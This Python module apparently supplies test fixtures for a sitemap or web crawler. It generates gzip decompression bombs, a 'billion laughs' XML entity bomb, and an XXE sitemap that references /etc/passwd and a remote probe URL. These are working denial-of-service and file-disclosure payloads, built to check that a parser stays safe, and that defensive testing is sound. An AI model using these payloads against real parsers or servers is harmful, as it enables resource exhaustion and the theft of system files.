"""Hostile payloads: gzip bombs, XML entity bombs, external-entity files.

A gzip bomb is built from identical gzip *members* (RFC 1952 allows a file to be several
members back to back, and every gzip reader inflates them all): one member of 1 MiB of
spaces compresses to about 1 KB, so a 1 GiB bomb is a 1 MB file built in milliseconds.
"""

from __future__ import annotations

import gzip
from functools import cache

MIB = 1 << 20


@cache
def _spaces_member() -> bytes:
    return gzip.compress(b" " * MIB, compresslevel=9, mtime=0)


def gzip_bomb(inflated: int, head: bytes = b"", tail: bytes = b"") -> bytes:
    """Gzip data that inflates to ``head``, about ``inflated`` bytes of spaces, then ``tail``."""
    parts = [gzip.compress(head, mtime=0)] if head else []
    parts.append(_spaces_member() * max(1, inflated // MIB))
    if tail:
        parts.append(gzip.compress(tail, mtime=0))
    return b"".join(parts)


def html_gzip_bomb(inflated: int = 1 << 30) -> bytes:
    """An HTML page as a gzip bomb (for ``Content-Encoding: gzip``)."""
    return gzip_bomb(
        inflated,
        b"<!doctype html><html><head><title>x</title></head><body><p>",
        b"</p></body></html>",
    )


def sitemap_gzip_bomb(inflated: int = 1 << 30) -> bytes:
    """A ``.xml.gz`` sitemap that inflates to ``inflated`` bytes (one real entry first)."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<url><loc>http://bomb.invalid/first</loc></url>"
    )
    return gzip_bomb(inflated, head, b"</urlset>")


def billion_laughs(depth: int = 9) -> bytes:
    """A sitemap whose one URL is ``&lol9;``: 10**9 "lol"s if anything expanded it."""
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, depth + 1):
        previous = "lol" if level == 1 else f"lol{level - 1}"
        entities.append(f'<!ENTITY lol{level} "{f"&{previous};" * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE urlset [\n '
        + "\n ".join(entities)
        + '\n]>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        + f"<url><loc>http://bomb.invalid/&lol{depth};</loc></url>\n</urlset>\n"
    ).encode()


def external_entity_sitemap(probe_url: str) -> bytes:
    """A sitemap whose URLs pull in ``/etc/passwd`` and ``probe_url`` (external entities, an
    external DTD and a parameter entity): a safe reader loads none of them."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "{probe_url}?what=dtd" [
  <!ENTITY passwd SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "{probe_url}?what=entity">
  <!ENTITY % param SYSTEM "{probe_url}?what=param">
  %param;
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>http://bomb.invalid/&passwd;</loc></url>
<url><loc>&remote;</loc></url>
</urlset>
""".encode()
